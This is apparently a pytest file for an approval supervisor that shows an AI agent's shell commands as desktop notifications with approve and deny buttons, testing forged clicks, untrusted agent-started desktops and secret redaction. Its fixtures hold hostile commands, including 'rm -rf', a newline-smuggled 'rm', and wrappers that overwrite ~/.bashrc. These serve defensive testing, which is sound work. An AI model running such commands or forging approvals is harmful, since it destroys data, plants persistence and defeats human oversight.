"""Notifications with buttons: a real bus, a program that shows them, and clicks that decide."""

import asyncio
import html
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.cli.agent_shell import Shell, shell
from tests.cli.conftest import ANSWER_S, Instance
from tests.outside import outside_only
from tests.rows import each_row
from tests.tui.scenes import Scenario
from whisper_tui.model.call import Argv, CallRequest, CommandSpec
from whisper_tui.model.call import Shell as ShellCommand
from whisper_tui.model.decision import Decider
from whisper_tui.model.event import Judged
from whisper_tui.model.state import CallRecord, Waiting
from whisper_tui.model.verdict import Meaning, Resolved, Risk, RunCode, Verdict
from whisper_tui.notify.desktop_buttons import DesktopButtons, call_notice
from whisper_tui.policy.rules.rule import Rules
from whisper_tui.supervisor.approvals.judge import judge_alone

__all__ = ["shell"]
pytestmark = [
    outside_only,
    pytest.mark.skipif(sys.platform != "linux", reason="buttons need Linux"),
    pytest.mark.skipif(shutil.which("dbus-daemon") is None, reason="dbus-daemon is not installed"),
]

PROGRAM = Path(__file__).parent / "notification_daemon.py"


class Desktop:
    """A bus, what was shown on it, and the clicks."""

    def __init__(self, address: str, folder: Path) -> None:
        self.address = address
        self.shown, self.clicks = folder / "shown", folder / "clicks"
        self._programs: list[subprocess.Popen[bytes]] = []

    def start(self, *before: str, shown: Path | None = None, clicks: Path | None = None, owns: bool = True) -> None:
        """Start a program that shows notifications, and wait until it has its name."""
        shown, clicks = shown or self.shown, clicks or self.clicks
        words = [sys.executable, str(PROGRAM), str(shown), str(clicks), *(["name"] if owns else [])]
        environment = {**os.environ, "DBUS_SESSION_BUS_ADDRESS": self.address}
        self._programs.append(subprocess.Popen([*before, *words], env=environment))
        Instance.until(self, shown.exists)  # type: ignore[arg-type]  it needs nothing of an instance

    def notes(self, name: str) -> list[dict[str, Any]]:
        lines = self.shown.read_text().splitlines() if self.shown.exists() else []
        return [note for note in map(json.loads, lines) if name in note]

    def last(self) -> dict[str, Any]:
        """The notification that was shown last."""
        return Instance.until(self, lambda: self.notes("id"))[-1]  # type: ignore[arg-type]

    def click(self, id_: int, key: str, clicks: Path | None = None) -> None:
        with (clicks or self.clicks).open("a") as file:
            file.write(f"{id_} {key}\n")

    def close(self) -> None:
        for program in self._programs:
            program.kill()
            program.wait(ANSWER_S)


@pytest.fixture
def desktop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Desktop]:
    pytest.importorskip("jeepney")
    words = ["dbus-daemon", "--session", "--nofork", "--print-address=1", f"--address=unix:path={tmp_path / 'bus'}"]
    bus = subprocess.Popen(words, stdout=subprocess.PIPE, text=True)
    assert bus.stdout is not None
    made = Desktop(bus.stdout.readline().strip(), tmp_path)
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", made.address)
    yield made
    made.close()
    bus.kill()
    bus.wait(ANSWER_S)


def configure(instance: Instance, undo_s: float = 0.1, **settings: object) -> None:
    lines = "".join(f"{name} = {json.dumps(value)}\n" for name, value in settings.items())
    text = f'[cockpit]\nundo_s = {undo_s}\n[calling]\nwhen = "always"\ndesktop_buttons = true\n{lines}'
    (instance.root / "config" / "config.toml").write_text(text)


def state(instance: Instance, call_id: str = "1") -> dict[str, Any]:
    found: dict[str, Any] = instance.seen("show", call_id=call_id)[0]
    return found


AGAIN_S = 5.0
"""Seconds after which a person clicks again."""


def click_until(instance: Instance, desktop: Desktop, key: str, reached: Any) -> None:
    """Click what was shown last as people do, who click again where nothing happens.

    In its first moment a click is too early, and until the supervisor knows the number of the notification it is none.
    """
    clicked: dict[int, float] = {}

    def look() -> bool:
        note, now = desktop.last(), time.monotonic()
        if key in note["actions"] and now > clicked.get(note["id"], -AGAIN_S) + AGAIN_S:
            clicked[note["id"]] = now
            desktop.click(note["id"], key)
        return bool(reached())

    instance.until(look)


@pytest.mark.slow
def test_a_click_on_approve_runs_the_command_and_the_notification_goes(instance: Instance, desktop: Desktop) -> None:
    desktop.start()
    configure(instance)
    process = instance.call("execute_command", command="echo", args=["<b>hi</b>"])
    note = desktop.last()
    assert note["actions"] == ["approve", "deny"]
    assert note["body"].startswith(f"echo '&lt;b&gt;hi&lt;/b&gt;'\nin {instance.workspace}")
    click_until(instance, desktop, "approve", lambda: state(instance)["state"] == "ended")
    out, _ = process.communicate(timeout=ANSWER_S)
    assert "<b>hi</b>" in out and state(instance)["decided_by"]["surface"] == "notification"
    instance.until(lambda: desktop.notes("closed"))


@pytest.mark.slow
def test_a_click_on_open_opens_a_window_in_which_a_human_decides(instance: Instance, desktop: Desktop) -> None:
    desktop.start()
    window = [sys.executable, "-m", "whisper_tui", "approve", "1", "--home", str(instance.root)]
    configure(instance, desktop_open=window)
    process = instance.call("execute_command", command="echo", args=["hi"])
    assert desktop.last()["actions"] == ["approve", "deny", "open"]
    click_until(instance, desktop, "open", lambda: state(instance)["state"] == "ended")
    out, _ = process.communicate(timeout=ANSWER_S)
    assert "hi" in out and state(instance)["decided_by"]["surface"] != "notification"


@pytest.mark.slow
def test_a_severe_call_has_no_approve_and_a_forged_click_on_it_approves_nothing(
    instance: Instance, desktop: Desktop
) -> None:
    desktop.start()
    configure(instance)
    process = instance.call("run_shell_command", command="rm -rf build")
    note = desktop.last()
    assert note["actions"] == ["deny"]
    assert "▲▲" in note["body"] and note["body"].endswith("Open the cockpit to approve: its risk is severe.")
    desktop.click(note["id"], "approve")
    click_until(instance, desktop, "deny", lambda: state(instance)["state"] == "ended")
    assert state(instance)["decision"] == "deny"
    assert "Denied by the human" in process.communicate(timeout=ANSWER_S)[1]


@pytest.mark.slow
def test_an_approval_can_be_undone(instance: Instance, desktop: Desktop) -> None:
    desktop.start()
    configure(instance, undo_s=60.0)
    instance.call("execute_command", command="true")
    click_until(instance, desktop, "approve", lambda: desktop.last()["actions"] == ["undo"])
    assert state(instance)["state"] == "waiting"
    click_until(instance, desktop, "undo", lambda: desktop.last()["actions"] == ["approve", "deny"])
    assert state(instance)["state"] == "waiting"


@pytest.mark.slow
def test_a_call_that_is_decided_elsewhere_takes_its_notification_away(instance: Instance, desktop: Desktop) -> None:
    desktop.start()
    configure(instance)
    instance.call("execute_command", command="true")
    note = desktop.last()
    assert instance.run("deny", "1", "no").returncode == 0
    instance.until(lambda: {"closed": note["id"]} in desktop.notes("closed"))


@pytest.mark.slow
def test_a_desktop_that_an_agent_has_started_is_not_trusted(shell: Shell, desktop: Desktop) -> None:
    configure(shell.instance, at_most_every_s=1)
    shell.ask("true")
    shell.deny(shell.waiting(), "only to get to know the agent")
    desktop.start(*shell.agent.starts())
    shell.instance.call("execute_command", command="true")

    def problem() -> str:
        return shell.instance.rows("status")["notify_problem"] or ""

    shell.instance.until(lambda: "cannot be trusted with decisions" in problem())
    assert desktop.notes("id") == []


@pytest.mark.slow
def test_without_a_bus_status_says_so(instance: Instance, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    pytest.importorskip("jeepney")
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={tmp_path / 'nothing'}")
    configure(instance)
    instance.call("execute_command", command="true")
    problem = instance.until(lambda: instance.rows("status")["notify_problem"])
    assert problem.startswith("Notifications with buttons do not work: the desktop's bus cannot be reached")


async def trusted(_pid: int) -> str | None:
    return None


async def clicked(scenario: Scenario, desktop: Desktop, call_id: str) -> None:
    """Click Deny on the notification of a call, and wait until that has decided."""
    (note,) = [note for note in desktop.notes("id") if note["body"].startswith(command_of(scenario, call_id))]
    desktop.click(note["id"], "deny")
    async with asyncio.timeout(ANSWER_S):
        while isinstance(scenario.supervisor.board.calls[call_id].state, Waiting):
            await asyncio.sleep(0.02)


def command_of(scenario: Scenario, call_id: str) -> str:
    return html.escape(scenario.supervisor.board.calls[call_id].spec.command.text, quote=False)


async def test_another_program_on_the_bus_cannot_click(desktop: Desktop, tmp_path: Path) -> None:
    desktop.start()
    desktop.start(shown=tmp_path / "other", clicks=tmp_path / "other-clicks", owns=False)
    scenario = Scenario.begin()
    forged, real = scenario.ask("build"), scenario.ask("test")
    clock = iter(range(0, 100_000, 10))
    by = Decider(surface="notification", who="me")
    buttons = DesktopButtons(
        scenario.supervisor, scenario.supervisor.board, trusted, by=by, undo_s=0, clock=lambda: next(clock)
    )
    try:
        assert await buttons.show([scenario.supervisor.board.calls[call_id] for call_id in (forged, real)]) is None
        for note in desktop.notes("id"):
            desktop.click(note["id"], "deny", tmp_path / "other-clicks")
        async with asyncio.timeout(ANSWER_S):
            while (tmp_path / "other").read_text().count("clicked") < 2:
                await asyncio.sleep(0.02)
        # The bus keeps the order of messages, so the forged clicks have come before this one.
        await clicked(scenario, desktop, real)
        assert isinstance(scenario.supervisor.board.calls[forged].state, Waiting)
    finally:
        await buttons.close()


async def test_a_call_that_has_changed_is_not_approved_by_the_click_on_what_it_was(desktop: Desktop) -> None:
    desktop.start()
    scenario = Scenario.begin()
    call_id = scenario.ask("build")
    clock = iter(range(0, 10_000, 10))
    by = Decider(surface="notification", who="me")
    buttons = DesktopButtons(
        scenario.supervisor, scenario.supervisor.board, trusted, by=by, undo_s=0, clock=lambda: next(clock)
    )
    try:
        shown = scenario.supervisor.board.calls[call_id]
        assert await buttons.show([shown]) is None
        verdict = shown.verdict.model_copy(update={"reason": "something else"})
        scenario.supervisor.happen(
            Judged(at=scenario.clock(), call_id=call_id, verdict=verdict, resolved=shown.resolved)
        )
        # The notifier has not been told yet, so that the click is about the version before.
        await buttons._clicked(call_id, buttons._shown[call_id], "deny")
        assert isinstance(scenario.supervisor.board.calls[call_id].state, Waiting)
        assert "was not decided" in desktop.last()["body"]
        buttons.changed(call_id)
    finally:
        await buttons.close()


def waiting(spec: CommandSpec, *risks: Risk, **resolved: Any) -> CallRecord:
    scenario = Scenario.begin()
    request = CallRequest(session_id="s1", tool="run_shell_command", arguments={}, spec=spec)
    found = Resolved(**{"program": "/usr/bin/x", "cwd": spec.cwd, **resolved})
    call_id = scenario.supervisor.ask(request, Verdict(kind="ask", reason="no rule", risks=risks), found)
    return scenario.supervisor.board.calls[call_id]


SECRET = "curl -H 'Authorization: Bearer abcdefghijklmnop1234' h"
LS = CommandSpec(command=Argv(program="ls"), cwd="/w")


@each_row(
    "record",
    [
        waiting(LS, Risk(id="destructive", sentence="It destroys")),
        waiting(LS, code=(RunCode(name="./x", not_inspected="it is binary"),)),
        waiting(LS, unread="a part"),
        waiting(LS, more=3),
        waiting(LS, variables={"X": "1"}),
        waiting(LS, problem="gone"),
        waiting(LS, commands=(Meaning(words=("ls", None)),)),
        waiting(LS, commands=(Meaning(words=("ls", "a"), expanded=("*: 1 file",)),)),
        waiting(LS.model_copy(update={"environment": {"PATH": "/x"}})),
        waiting(LS.model_copy(update={"tty": True})),
        waiting(LS, cwd="/elsewhere"),
        waiting(CommandSpec(command=ShellCommand(text="ls\nrm x"), cwd="/w")),
        waiting(CommandSpec(command=ShellCommand(text="ls \u202e x"), cwd="/w")),
        waiting(CommandSpec(command=Argv(program="echo", args=("x" * 300,)), cwd="/w")),
        waiting(
            CommandSpec(command=ShellCommand(text="curl -H 'Authorization: Bearer abcdefghijklmnop1234' h"), cwd="/w")
        ),
        waiting(LS, *(Risk(id="network", sentence=f"It reaches {'x' * 200}") for _ in range(3))),
    ],
)
def test_a_call_that_a_notification_cannot_show_cannot_be_approved_by_it(record: CallRecord) -> None:
    notice = call_notice(record, None)
    assert not notice.may_approve and "Open the cockpit to approve: " in notice.body


@each_row(
    "text",
    [
        "/usr/bin/time -f 'touch /tmp/pwn' -o ~/.bashrc ls",
        "flock ~/.bashrc ls",
        "curl --output-dir ~ -o .bashrc http://h",
    ],
)
def test_a_call_that_writes_a_start_up_file_by_the_words_of_a_wrapper_cannot_be_approved_by_it(text: str) -> None:
    spec = CommandSpec(command=ShellCommand(text=text), cwd="/")
    environment = {"PATH": "/usr/bin:/bin", "HOME": "/home/me"}
    verdict, resolved = judge_alone(spec, Rules(), environment, root="/", now=0.0)
    assert not call_notice(waiting(spec, *verdict.risks, sensitive=resolved.sensitive), None).may_approve


def test_a_notification_names_command_directory_and_risks_and_no_secret() -> None:
    assert call_notice(waiting(LS, Risk(id="network", sentence="It reaches h")), None)[1:] == (
        "ls\nin /w\n▲ It reaches h.",
        True,
    )
    secret = CommandSpec(
        command=ShellCommand(text="curl -H 'Authorization: Bearer abcdefghijklmnop1234' h\x1b[2J"), cwd="/w"
    )
    body = call_notice(waiting(secret), None).body
    assert "abcdefghijklmnop" not in body and "\x1b" not in body
    assert len(call_notice(waiting(CommandSpec(command=ShellCommand(text="x" * 9_000_000), cwd="/w")), None).body) < 700
